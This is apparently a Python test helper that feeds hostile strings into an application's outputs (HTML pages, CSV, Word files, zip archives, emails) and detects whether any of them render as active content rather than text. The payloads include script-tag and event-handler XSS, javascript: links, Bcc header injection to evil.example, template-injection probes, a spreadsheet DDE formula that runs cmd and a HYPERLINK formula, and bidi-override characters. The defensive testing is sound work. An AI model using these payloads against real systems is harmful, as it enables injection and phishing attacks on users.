"""What was typed as an attack, and whether anything of it came out as more than words."""

import csv
import io
import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from email import message_from_bytes, policy
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree
from zipfile import ZipFile

from tests.files import words_in_pdf, words_in_word

# MARK is a number of its own each time. Whatever is called zq is ours, and must be words for ever.
HOSTILE = (
    'MARK <script>zqrun()</script><zq onzq=1>"\' onzq="1"><svg/onzq=1></textarea><zq></title><zq>',
    "MARK [a](javascript:zqrun) ![b](data:text/html,zq) <javascript:zqrun> "
    '[c](https://e.example/"onzq="1) [d](\tjava\nscript:zqrun "onzq=1")\n\n<zq>\n\n    <zq>',
    "MARK\r\nBcc: zq@evil.example\r\nX-Zq: 1\r\n\r\n=?utf-8?q?=0D=0ABcc=3A_zq=40evil.example?=",
    'MARK {{1337*3}} {% include "zq" %} ${1337*3} #{1337*3} %(zq)s %s {0.__class__} {zq}',
    '=HYPERLINK("https://evil.example/MARK","zq")',
    "+1337*3+cmd|' /C calc'!MARK",
    "@SUM(MARK)\t=1337*3",
    "\u202eMARK moc.live\u202c \u200b\u200bzq\x00\x08 \u2066zq \ufeff\U000e0041",
)
RUNS = re.compile(r"\s*(?:javascript|vbscript|data:text)", re.IGNORECASE)
TURNED = re.compile("[\u202d\u202e\x00\x08\U000e0041]")
HTML, CSV = ("text/html",), ("text/csv",)


class Markup(HTMLParser):
    """Tags, attributes, addresses and scripts that nobody of us has written."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.ours: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self._script = tag == "script"
        if tag.startswith("zq"):
            self.ours.append(f"a tag <{tag}>")
        for name, value in attributes:
            if name.startswith("on"):
                self.ours.append(f"an attribute {name}")
            if name in ("href", "src", "action", "formaction") and RUNS.match(value or ""):
                self.ours.append(f"an address that runs: {value}")

    def handle_data(self, data: str) -> None:
        if self._script and "zq" in data:
            self.ours.append("a script")

    def handle_endtag(self, tag: str) -> None:
        self._script = False


@dataclass
class Reading:
    """The words of a page, file or email, and what came out as something else."""

    words: str
    faults: list[str] = field(default_factory=list)

    @classmethod
    def of(cls, body: bytes, headers: Iterable[tuple[str, str]], where: str) -> "Reading":
        known = {name.lower(): value for name, value in headers}
        found = cls("")
        if any("zq" in name for name in known):
            found.faults.append(f"a header of ours: {where}")
        kind = known.get("content-type", "")
        found.take(body, kind, where)
        return found

    @classmethod
    def of_email(cls, message: Any) -> "Reading":
        """As it goes over the wire, and read again as mail programs do."""
        found, where = cls(""), f"email “{message.subject}”"
        sent = message_from_bytes(message.message().as_bytes(), policy=policy.default)
        names = {name.lower() for name in sent}
        if names & {"bcc", "cc"} or any("zq" in name for name in names):
            found.faults.append(f"a header of ours: {where}")
        to = " ".join([*message.recipients(), str(sent["To"]), str(sent["Reply-To"] or "")])
        if "evil.example" in to:
            found.faults.append(f"a recipient of ours: {where}")
        for part in sent.walk():
            if not part.is_multipart():
                content = part.get_payload(decode=True)
                assert isinstance(content, bytes)
                found.take(content, part.get_content_type(), where)
        found.words += f" {sent['Subject']}"
        return found

    def take(self, body: bytes, kind: str, where: str) -> None:
        if kind.startswith("application/zip"):
            with ZipFile(io.BytesIO(body)) as pack:
                for name in pack.namelist():
                    if name.startswith(("/", "..")) or "/../" in name:
                        self.faults.append(f"a path that leaves: {where} {name}")
                    self.take(pack.read(name), _kind(name), f"{where} {name}")
            return
        text = _text(body, kind)
        self.words += " " + text
        if kind.startswith("text/html"):
            markup = Markup()
            markup.feed(text)
            self.faults += [f"{one}: {where}" for one in markup.ours]
        if kind.startswith("text/csv"):
            self.faults += [f"a formula: {where}: {one[:40]}" for one in _formulas(text)]
        if kind.endswith("wordprocessingml.document"):
            self.faults += [f"{one}: {where}" for one in _in_word(body)]
        if TURNED.search(text):
            self.faults.append(f"turned or hidden letters: {where}")
        if re.search(r"zq[^\n]{0,40}\b4011\b", text):
            self.faults.append(f"braces were worked out: {where}")


def _kind(name: str) -> str:
    kinds = {"csv": "text/csv", "html": "text/html", "pdf": "application/pdf"}
    return kinds.get(name.rpartition(".")[2], "text/plain")


def _text(body: bytes, kind: str) -> str:
    if kind.startswith("application/pdf"):
        return words_in_pdf(body)
    if kind.endswith("wordprocessingml.document"):
        return words_in_word(body)
    return body.decode(errors="replace")


def _formulas(text: str) -> list[str]:
    """Cells with what we typed that a spreadsheet would work out."""
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    cells += [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
    return [cell for cell in cells if "zq" in cell and cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def _in_word(body: bytes) -> list[str]:
    """Each part is XML, nothing in it is called as ours, and no field or link runs."""
    found = []
    with ZipFile(io.BytesIO(body)) as parts:
        for name in parts.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            for one in ElementTree.fromstring(parts.read(name)).iter():
                if "zq" in one.tag or any("zq" in key for key in one.attrib):
                    found.append(f"markup in {name}")
                if one.tag.endswith("}instrText") and "zq" in (one.text or ""):
                    found.append(f"a field in {name}")
                if any(RUNS.match(value) for value in one.attrib.values()):
                    found.append(f"a link that runs in {name}")
    return found
